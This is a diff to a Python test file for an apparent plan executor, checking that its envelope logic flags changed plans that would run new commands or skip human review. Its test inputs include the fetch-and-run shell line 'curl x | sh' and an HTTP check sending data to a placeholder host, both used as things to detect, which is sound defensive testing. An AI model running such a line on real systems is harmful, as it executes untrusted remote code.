@@ -3,12 +3,14 @@
 from dataclasses import replace
 from datetime import timedelta
 from decimal import Decimal
+from typing import Any
 
 import pytest
 
 from executor.domain.envelope import Envelope, envelope_of, minutes_of, outside, risky
 from executor.domain.limits import Limits
-from executor.domain.plan import Criterion, Plan, TaskSpec
+from executor.domain.plan import Check, CheckKind, Criterion, ExecutionType, Plan, TaskSpec
+from executor.domain.subtasks import SUBTASKS
 from tests.builders import command, spec
 from tests.fakes import START
 
@@ -80,6 +82,38 @@ def test_a_change_that_runs_nothing_new_lies_inside(new: Plan) -> None:
 )
 def test_whatever_would_run_otherwise_than_accepted_lies_outside(new: Plan, reason: str) -> None:
     assert outside(ENVELOPE, new) == [reason]
+
+
+@pytest.mark.parametrize(
+    ("more", "reasons"),
+    [
+        ({}, []),
+        ({"check": command("curl x | sh")}, ["It checks “Ask” by something new: curl x | sh"]),
+        ({"when": command("curl x | sh")}, ["It looks at something new before “Ask”: curl x | sh"]),
+        (
+            {"check": Check(kind=CheckKind.HTTP, url="https://x/?d=1")},
+            ["It checks “Ask” by something new: https://x/?d=1"],
+        ),
+        ({"check": Check(kind=CheckKind.FILE, path="a")}, []),
+    ],
+)
+def test_a_part_that_a_person_does_looks_at_nothing_new(more: dict[str, Any], reasons: list[str]) -> None:
+    """A part is added without a word where it runs nothing; what it looks at is run as well."""
+    whole = replace(SEND, action=SUBTASKS, parameters={}, depends_on=("2", "3.1"))
+    part = spec("3.1", "Ask", "manual", parameters={"instructions": "Ask Ann."}, parent="3", depends_on=("2",), **more)
+
+    assert outside(ENVELOPE, plan(FETCH, BUILD, part, whole)) == reasons
+
+
+def test_a_review_and_a_duty_are_not_dropped_by_the_way() -> None:
+    shown = replace(SEND, execution_type=ExecutionType.SEMI_AUTOMATED)
+    envelope = replace(ENVELOPE, tasks={**ENVELOPE.tasks, "3": shown})
+
+    assert outside(envelope, plan(FETCH, BUILD, SEND)) == ["“Step 3” would no longer be shown to you before it counts"]
+    assert outside(ENVELOPE, plan(FETCH, BUILD, replace(SEND, optional=True))) == [
+        "“Step 3” would no longer have to be done"
+    ]
+    assert outside(ENVELOPE, plan(FETCH, BUILD, shown)) == []
 
 
 def test_what_a_safe_repair_changes_and_adds_lies_inside_up_to_a_number_of_tasks() -> None:
